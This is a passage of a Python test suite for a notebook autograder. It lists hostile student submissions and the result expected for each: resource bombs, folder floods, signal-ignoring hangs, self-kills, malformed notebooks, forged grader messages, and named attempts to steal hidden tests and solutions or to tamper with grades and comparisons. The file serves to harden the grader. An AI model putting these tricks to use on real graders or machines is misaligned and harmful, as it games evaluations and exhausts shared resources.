# 6. an honest runaway recursion with a raised limit, touching files on the way down
DEEP_RECURSION = """
import sys
sys.setrecursionlimit(100000)
def _down(n):
    if n % 500 == 0:
        open('level.txt', 'w').close()
    return _down(n + 1)
try:
    _down(0)
except RecursionError:
    pass
"""

# 7. a huge answer: a 50 MB string (the JSON header), a 320 MB array (the payload)
HEADER_BOMB = "def one_hot(y, num_classes):\n    return 'x' * 50_000_000\n"
ARRAY_BOMB = "import numpy as np\ndef one_hot(y, num_classes):\n    return np.zeros(40_000_000)\n"

# 7. thousands of cells that each fail with a long message: the feedback must stay small
NOTE_FLOOD = ["raise ValueError('x' * 3000)\n"] * 3000

# 7. tens of thousands of empty folders (no bytes of files, but inodes and blocks)
DIR_FLOOD = """
import os
for _i in range(24000):
    os.mkdir('f%d' % _i)
"""

# 8. the size and times of the hidden tests
STAT_HIDDEN = """
import os
print('STAT:', os.stat(@HIDDEN@).st_size)
"""


# ------------------------------------------------------------------------------------------------
# notebook damage
# ------------------------------------------------------------------------------------------------

def _gid(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb, gid):
    return next(i for i, c in enumerate(nb["cells"]) if _gid(c) == gid)


def nb_no_source(ctx):
    nb = ctx.nb()
    del nb["cells"][_index(nb, "one_hot")]["source"]
    for cell in nb["cells"]:
        if cell["cell_type"] == "markdown":
            cell.pop("source", None)
    return nb


def nb_retyped(ctx):
    nb = ctx.nb()
    for gid, kind in (("softmax", "markdown"), ("one_hot", "raw")):
        cell = nb["cells"][_index(nb, gid)]
        cell["cell_type"] = kind
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
    return nb


def nb_duplicate(last_right):
    def build(ctx):
        nb = ctx.nb()
        i = _index(nb, "softmax")
        right, wrong = nb["cells"][i], copy.deepcopy(nb["cells"][i])
        wrong["source"] = ctx.wrong["softmax"]
        nb["cells"][i:i + 1] = [wrong, right] if last_right else [right, wrong]
        return nb
    return build


def nb_no_tests(ctx):
    nb = ctx.nb()
    nb["cells"] = [c for c in nb["cells"]
                   if not (c["cell_type"] == "code" and c["metadata"].get("nbgrader", {}).get("grade"))]
    return nb


def nb_no_solution(ctx):
    nb = ctx.nb()
    del nb["cells"][_index(nb, "cross_entropy")]
    return nb


def nb_no_metadata(ctx):
    nb = ctx.nb()
    for cell in nb["cells"]:
        cell["metadata"] = {}
    return nb


def nb_huge(ctx):
    nb = ctx.nb()
    nb["cells"].append({"cell_type": "markdown", "id": "huge", "metadata": {}, "source": "x" * 30_000_000})
    return nb


def nb_raise_first(ctx):
    nb = ctx.nb()
    nb["cells"].insert(0, {"cell_type": "code", "execution_count": None, "id": "first", "metadata": {},
                           "outputs": [], "source": "raise RuntimeError('stopped before the definitions')\n"})
    return nb


def nb_big_code(ctx):
    """An honest notebook (2.4 MB, far under the 20 MB limit) with a cell holding a data literal."""
    return ctx.nb("ref", ["DATA = '" + "ab" * 600_000 + "'\nprint(len(DATA))\n"])


def nb_nested_json(ctx):
    return "[" * 100_000 + "]" * 100_000


def nb_list_grade_id(ctx):
    nb = ctx.nb()
    nb["cells"].append({"cell_type": "code", "execution_count": None, "id": "odd", "outputs": [],
                        "metadata": {"nbgrader": {"grade_id": ["softmax"], "solution": True}},
                        "source": "x = 1\n"})
    return nb


# ------------------------------------------------------------------------------------------------
# the class
# ------------------------------------------------------------------------------------------------

ALL = FUNCTIONS
NOT_SOFTMAX = ("one_hot", "cross_entropy", "softmax_cross_entropy")
NOT_ONE_HOT = ("softmax", "cross_entropy", "softmax_cross_entropy")
TAMPER = "tampering suspected"

MAIN = {
    # honest controls, spread through the alphabet so they run beside different attackers
    "honest_a": Sub(ref_with(), ALL),
    "honest_m": Sub(ref_with(), ALL),
    "honest_z": Sub(ref_with(), ALL),
    "stub_control": Sub(ref_with(base="stub"), ()),
    # 1. the instructor's source
    "steal_abs": Sub(ref_with(STEAL_ABS, base="stub"), (), TAMPER),
    "steal_rel": Sub(ref_with(STEAL_REL, base="stub"), (), TAMPER),
    "steal_walk": Sub(ref_with(STEAL_WALK, base="stub"), (), TAMPER),
    "steal_glob": Sub(ref_with(STEAL_GLOB, base="stub"), (), TAMPER),
    "steal_linecache": Sub(ref_with(STEAL_LINECACHE, base="stub"), (), TAMPER),
    # 2. hidden tests, the repository, other students
    "read_hidden": Sub(ref_with(READ_HIDDEN, base="stub"), (), TAMPER),
    "read_repo": Sub(ref_with(READ_REPO, base="stub"), (), TAMPER),
    "read_peers": Sub(ref_with(READ_PEERS, base="stub"), (), TAMPER),
    # 3. grades
    "gradebook": Sub(ref_with(GRADEBOOK, base="stub"), (), TAMPER),
    "write_files": Sub(ref_with(WRITE_FILES, base="stub"), (), TAMPER),
    # 4. lying to the comparison
    "patch_compare": Sub(ref_with(PATCH_COMPARE, base="wrong"), ()),
    "eq_true": Sub(ref_with(base="stub", **EQ_TRUE), ()),
    "ndarray_subclass": Sub(ref_with(base="stub", **SUBCLASS), ()),
    "array_hook": Sub(ref_with(base="stub", **ARRAY_HOOK), ()),
    "wrong_types": Sub(ref_with(base="stub", **WRONG_TYPES), ()),
    # 5. monkeypatching the process
    "patch_import": Sub(ref_with(PATCH_IMPORT, base="wrong"), (), ("graded", "crashed"), exact=False),
    "patch_sys_modules": Sub(ref_with(PATCH_SYS_MODULES, base="wrong"), (), ("graded", "crashed"), exact=False),
    "patch_traceback": Sub(ref_with(PATCH_TRACEBACK, base="stub"), ()),
    "patch_warnings": Sub(ref_with(PATCH_WARNINGS, base="wrong"), ()),
    # 6. honest but noisy
    "noisy_warnings": Sub(lambda ctx: ctx.nb("ref", [NOISE], **{
        f: ctx.ref[f].replace("### BEGIN SOLUTION", "### BEGIN SOLUTION\n    _noise()") for f in FUNCTIONS}), ALL),
    # 7. hangs
    "sigint_loop": Sub(ref_with("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass\n"),
                       ALL, "timed out"),
    "raise_sigstop": Sub(ref_with("import signal\nsignal.raise_signal(signal.SIGSTOP)\n"), ALL, "timed out"),
    "hang_softmax": Sub(ref_with(softmax=HANG), NOT_SOFTMAX, "timed out"),
    # 8. ending the process
    "exit_late": Sub(ref_with("import os\nos._exit(0)\n"), ALL, "crashed"),
    "kill_self": Sub(ref_with("import os\nos.kill(os.getpid(), 9)\n"), ALL, TAMPER),
    "raise_sigkill": Sub(ref_with("import signal\nsignal.raise_signal(signal.SIGKILL)\n"), ALL, "crashed"),
    "sys_exit_late": Sub(ref_with("import sys\nsys.exit(3)\n"), ALL),
    "exit_in_one_hot": Sub(ref_with(one_hot="def one_hot(y, num_classes):\n    import os\n    os._exit(1)\n"),
                           ("softmax", "cross_entropy", "softmax_cross_entropy"), "crashed"),
    # 9. resources
    "fork_bomb": Sub(ref_with(FORK_BOMB), ALL, TAMPER),
    "mem_bomb": Sub(ref_with(MEM_BOMB), ALL),
    "disk_flood": Sub(ref_with(DISK_FLOOD), ALL),
    "disk_flood_many": Sub(ref_with(DISK_FLOOD_MANY), ALL, "crashed"),
    "output_flood": Sub(ref_with(OUTPUT_FLOOD), ALL),
    # 10. network
    "network": Sub(ref_with(NETWORK), ALL, TAMPER),
    # 11. killing the grader
    "kill_grader": Sub(ref_with(KILL_GRADER), ALL, TAMPER),
    "kill_grader_pidfd": Sub(ref_with(KILL_GRADER_PIDFD), ALL, TAMPER),
    # 12. notebook damage
    "nb_invalid_json": Sub(lambda ctx: '{"cells": [{"cell_type": "code", "source": "def softmax(x):\\n'),
    "nb_list": Sub(lambda ctx: "[]"),
    "nb_empty_object": Sub(lambda ctx: "{}"),
    "nb_huge": Sub(nb_huge),
    "nb_no_source": Sub(nb_no_source, ("softmax", "cross_entropy", "softmax_cross_entropy")),
    "nb_retyped": Sub(nb_retyped, ALL),
    "nb_dup_last_right": Sub(nb_duplicate(True), ALL),
    "nb_dup_last_wrong": Sub(nb_duplicate(False), NOT_SOFTMAX),
    "nb_no_tests": Sub(nb_no_tests, ALL),
    "nb_no_solution": Sub(nb_no_solution, ("softmax", "one_hot", "softmax_cross_entropy")),
    "nb_no_metadata": Sub(nb_no_metadata, ALL),
    "nb_raise_first": Sub(nb_raise_first, ALL),
    "nb_raise_in_cell": Sub(lambda ctx: ctx.nb(one_hot="raise RuntimeError('oops')\n" + ctx.ref["one_hot"]),
                            ("softmax", "cross_entropy", "softmax_cross_entropy")),
    "nb_big_code": Sub(nb_big_code, ALL),
    # 13. delegation to utils
    "deleg_from": Sub(ref_with(softmax=DELEG_FROM), NOT_SOFTMAX),
    "deleg_module": Sub(ref_with(**DELEG_MODULE), ()),
    "deleg_kwdefaults": Sub(ref_with(softmax=DELEG_KWDEFAULTS), NOT_SOFTMAX),
    "deleg_reload": Sub(ref_with(softmax=DELEG_RELOAD), NOT_SOFTMAX, TAMPER),
    # 14. the protocol
    "proto_garbage": Sub(lambda ctx: partial_correct("softmax")(ctx, [PROTO_GARBAGE]), ("softmax",),
                         ("crashed", TAMPER), exact=False),
    "proto_close": Sub(lambda ctx: partial_correct("softmax")(ctx, [PROTO_CLOSE]), ("softmax",),
                       ("crashed", TAMPER), exact=False),
    "proto_fn_garbage": Sub(lambda ctx: partial_correct("softmax")(ctx, one_hot=PROTO_FN_GARBAGE), ("softmax",),
                            ("crashed", TAMPER), exact=False),
    "proto_forge_value": Sub(lambda ctx: partial_correct("one_hot")(ctx, softmax=PROTO_FORGE_VALUE), ("one_hot",),
                             ("graded", "crashed", TAMPER), exact=False),
    "violation_flood": Sub(ref_with(VIOLATION_FLOOD), ALL, TAMPER),
    "zip_bomb": Sub(ref_with(softmax=ZIP_BOMB), NOT_SOFTMAX, ("crashed", TAMPER), exact=False),
    # 15. probing the runner
    "probe_walk": Sub(lambda ctx: ctx.nb("stub", [_probe_code()]), (), TAMPER),  # it reads guarded defaults
    "probe_gc": Sub(ref_with(PROBE_GC, base="stub"), (), TAMPER),
    "probe_frames": Sub(ref_with(PROBE_FRAMES, base="stub"), (), TAMPER),  # tracers are refused
    "probe_proc": Sub(ref_with(PROBE_PROC, base="stub"), (), TAMPER),
    "probe_ctypes": Sub(ref_with(PROBE_CTYPES, base="stub"), (), TAMPER),
    "builtins_tamper": Sub(ref_with(BUILTINS_TAMPER, base="wrong"), (), ("graded", "crashed", TAMPER), exact=False),
    "rlimit_raise": Sub(ref_with(RLIMIT_RAISE), ALL, TAMPER),
    "leak_inputs": Sub(ref_with(softmax=LEAK_SOFTMAX, cross_entropy=LEAK_CE), ("one_hot", "softmax_cross_entropy")),
    # round 2 (issue 10)
    "hook_off": Sub(ref_with(HOOK_OFF, base="stub"), (), TAMPER),
    "log_link": Sub(ref_with(LOG_LINK), ALL, TAMPER),
    "pipe_stall": Sub(ref_with(PIPE_STALL), (), "timed out", exact=False),
    "leak_frames": Sub(ref_with(softmax=LEAK_FRAMES, cross_entropy=LEAK_FRAMES_CE), ("one_hot", "softmax_cross_entropy"),
                       TAMPER),  # replacing a __code__ is refused
    "deleg_closure": Sub(ref_with(softmax=DELEG_CLOSURE), NOT_SOFTMAX),
    "deep_dirs": Sub(ref_with(DEEP_DIRS), ALL),
    "deep_recursion": Sub(ref_with(DEEP_RECURSION), ALL),
    "header_bomb": Sub(ref_with(one_hot=HEADER_BOMB), NOT_ONE_HOT, ("crashed", "timed out"), exact=False),
    "array_bomb": Sub(ref_with(one_hot=ARRAY_BOMB), NOT_ONE_HOT, ("crashed", "timed out"), exact=False),
    "note_flood": Sub(lambda ctx: ctx.nb("ref", NOTE_FLOOD), ALL),
    # stopped by the entry cap ("crashed"), or on a busy machine by the cell's time limit first
    "dir_flood": Sub(ref_with(DIR_FLOOD), ALL, ("crashed", "timed out"), exact=False),
    "stat_hidden": Sub(ref_with(STAT_HIDDEN, base="stub"), (), TAMPER),
    "=HYPERLINK(honest)": Sub(ref_with(), ALL),
}

UNREADABLE = {"nb_invalid_json": "not valid notebook JSON", "nb_list": "no list of cells",
              "nb_empty_object": "no list of cells", "nb_huge": "MB limit"}
for _name in UNREADABLE:
    MAIN[_name].status = "unreadable notebook"

# Submissions that make the judge itself raise: each is graded in a batch of its own, beside one
# honest control. The value says what a correct grader does with it.
CRASHERS = {
    "crash_str_array": Sub(ref_with(softmax="import numpy as np\ndef softmax(x, axis=-1):\n"
                                            "    return np.full(np.shape(x), 'abc')\n"), NOT_SOFTMAX),
    "crash_loss_str": Sub(lambda ctx: ctx.nb(softmax_cross_entropy=ctx.ref["softmax_cross_entropy"].replace(
        "def softmax_cross_entropy", "def _sce") + "\n\ndef softmax_cross_entropy(scores, y):\n"
        "    loss, dscores = _sce(scores, y)\n    return 'x', dscores\n"), ("softmax", "one_hot", "cross_entropy")),
    "crash_nested_json": Sub(nb_nested_json, None, "unreadable notebook"),
    "crash_list_grade_id": Sub(nb_list_grade_id, ALL),
    "crash_surrogate": Sub(ref_with(softmax="def softmax(x, axis=-1):\n    raise ValueError('\\ud800 bad text')\n"),
                           NOT_SOFTMAX),
    "crash_forge_results_int": Sub(ref_with(one_hot=PROTO_LIB + "def one_hot(y, num_classes):\n"
                                                    "    _forge(_D(event='results', results=_L(1)))\n"
                                                    "    raise NotImplementedError\n"),
                                   NOT_SOFTMAX[1:] + ("softmax",), ("crashed", TAMPER)),
    "crash_forge_results_scalar": Sub(ref_with(one_hot=PROTO_LIB + "def one_hot(y, num_classes):\n"
                                                       "    _forge(_D(event='results', results=5))\n"
                                                       "    raise NotImplementedError\n"),
                                      NOT_SOFTMAX[1:] + ("softmax",), ("crashed", TAMPER)),
    "crash_forge_index_str": Sub(ref_with(PROTO_LIB + "_forge(_D(event='cell_start', index='x'))\n"),
                                 ALL, ("crashed", TAMPER)),
    "crash_forge_done_twice": Sub(ref_with(PROTO_LIB + "_forge(_D(event='cell_done', index=0, error='x'))\n"
                                                       "_forge(_D(event='cell_done', index=0, error='y'))\n"),
                                  ALL, ("crashed", TAMPER)),
    "crash_forge_index_big": Sub(ref_with(PROTO_LIB + "_forge(_D(event='cell_start', index=10**6))\n"
                                                      "_forge(_D(event='cell_done', index=10**6, error='boom'))\n"),
                                 ALL, ("crashed", TAMPER)),
}

CRASH_REASONS = {
    "crash_str_array": "spec.compare_outputs calls student.astype(float64) before checking the dtype kind: "
                       "a string array of the right shape raises ValueError in the judge",
    "crash_loss_str": "hidden_tests._numerical_gradient_case.compare calls float() on the student's loss: a "
                      "string loss raises ValueError in the judge (case.compare is not guarded)",
    "crash_nested_json": "notebooks.read_submission catches only JSONDecodeError: deeply nested JSON raises "
                         "RecursionError",
    "crash_list_grade_id": "notebooks.cells_to_run does `gid in info.solution_code` with an unhashable grade_id "
                           "(a list): TypeError",
    "crash_surrogate": "a lone surrogate in a student's exception message (or a forged violation text) reaches "
                       "report.write_all: the feedback page's write_text(encoding='utf-8') raises "
                       "UnicodeEncodeError after every result was saved, so every re-run fails the same way",
    "crash_forge_results_int": "judge._judge_case trusts the runner's message: a forged results entry that is "
                               "not a dict raises AttributeError (out.get)",
    "crash_forge_results_scalar": "judge._Session.run: len(msg['results']) on a forged non-list raises TypeError",
    "crash_forge_index_str": "judge._Session.boot: int(msg['index']) on a forged cell_start raises ValueError",
    "crash_forge_done_twice": "judge._Session.boot: a forged second cell_done with an error indexes "
                              "self.cells[None]: TypeError",
    "crash_forge_index_big": "judge._Session.boot: a forged cell_start index out of range, then cell_done with "
                             "an error: IndexError on self.cells[current]",
}

XFAIL = {  # known weaknesses: (what, student) -> why; empty while every attack is handled
}
